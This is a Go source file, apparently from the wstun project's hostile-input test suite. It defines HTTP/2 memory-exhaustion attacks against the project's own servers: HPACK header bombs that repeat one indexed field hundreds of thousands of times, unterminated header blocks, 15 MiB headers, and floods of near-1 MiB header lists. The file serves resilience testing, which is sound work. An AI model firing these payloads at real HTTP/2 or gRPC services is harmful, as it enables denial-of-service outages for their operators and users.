//go:build linux

package hostile

import (
	"bytes"

	"golang.org/x/net/http2"

	"github.com/wstun/wstun/commands/demo"
)

// heldHeaders is the live heap in MiB that a session's header lists may need. They are
// limited to 16 MiB in the sense of RFC 9113 §6.5.2, which counts 34 bytes for a field
// that takes about three times as many.
const heldHeaders = 64

var headerAttacks = []attack{
	{name: "header bombs", target: hub, sessions: 1, held: heldHeaders, run: inSession(headerBombs)},
	{name: "header bombs to the proxy", target: proxy, sessions: 1, held: heldHeaders, run: inSession(headerBombs)},
	{name: "header bombs to dial from the server", target: dial, sessions: 1, held: heldHeaders, run: inSession(headerBombs)},
	{name: "header bombs to dial from local clients", target: dialAlone, held: heldHeaders, run: fromLocal(headerBombs)},
	{name: "endless header bombs on many streams", target: hub, sessions: 1, held: heldHeaders, run: onManyStreams(64, endlessHeaders)},
	{name: "endless header bombs from local clients", target: dialAlone, held: heldHeaders, run: fromManyLocal(64, endlessHeaders)},
	{name: "a huge header", target: hub, sessions: 1, held: heldHeaders, run: inSession(hugeHeaders)},
	{name: "many large header lists", target: hub, sessions: 1, held: heldHeaders, run: inSession(manyHeaders)},
}

// inSession returns an attack on one HTTP/2 connection in a session.
func inSession(run func(*http2Conn) error) func(*attacker) error {
	return onManyStreams(1, run)
}

// onManyStreams returns an attack on n HTTP/2 connections in a session, one after the other.
func onManyStreams(n int, run func(*http2Conn) error) func(*attacker) error {
	return func(a *attacker) error {
		for range n {
			c, err := a.openHTTP2(0)
			if err != nil {
				return err
			}
			if err := run(c); err != nil {
				return err
			}
		}
		return nil
	}
}

// fromLocal returns an attack on a connection to a local listener.
func fromLocal(run func(*http2Conn) error) func(*attacker) error { return fromManyLocal(1, run) }

func fromManyLocal(n int, run func(*http2Conn) error) func(*attacker) error {
	return func(a *attacker) error {
		for range n {
			c, err := a.dialHTTP2()
			if err != nil {
				return err
			}
			if err := run(c); err != nil {
				return err
			}
		}
		return nil
	}
}

// headerBomb is a header block that adds the field "a: b" to the HPACK table and then
// repeats its index, one byte each. The list is as long as grpc-go allows by default.
func headerBomb() []byte {
	const fields, index = 490_000, 0x80 | 62
	block := append(request(demo.Hub_Sleep_FullMethodName), 0x40, 1, 'a', 1, 'b')
	return append(block, bytes.Repeat([]byte{index}, fields)...)
}

// headerBombs begins 46 calls with a header bomb and doesn't end them.
func headerBombs(c *http2Conn) error {
	bomb := headerBomb()
	for i := range uint32(46) {
		if _, err := c.Write(appendHeaders(nil, 1+2*i, bomb, 0, http2.FlagHeadersEndHeaders)); err != nil {
			return err
		}
	}
	return nil
}

// endlessHeaders begins a call with a header bomb that doesn't end.
func endlessHeaders(c *http2Conn) error {
	_, err := c.Write(appendHeaders(nil, 1, headerBomb(), 0, 0))
	return err
}

// hugeHeaders begins calls with one header of 15 MiB each.
func hugeHeaders(c *http2Conn) error {
	block := request(demo.Hub_Sleep_FullMethodName, "huge", string(make([]byte, 15*mib)))
	for i := range uint32(4) {
		if _, err := c.Write(appendHeaders(nil, 1+2*i, block, 0, http2.FlagHeadersEndHeaders)); err != nil {
			return err
		}
	}
	return nil
}

// manyHeaders begins as many calls as a server allows, each with a header list just below
// 1 MiB.
func manyHeaders(c *http2Conn) error {
	const fields, index = 900 * 1024 / 34, 0x80 | 62
	block := append(request(demo.Hub_Sleep_FullMethodName), 0x40, 1, 'a', 1, 'b')
	block = append(block, bytes.Repeat([]byte{index}, fields)...)
	for i := range uint32(16384) {
		if _, err := c.Write(appendHeaders(nil, 1+2*i, block, 0, http2.FlagHeadersEndHeaders)); err != nil {
			return err
		}
	}
	return nil
}
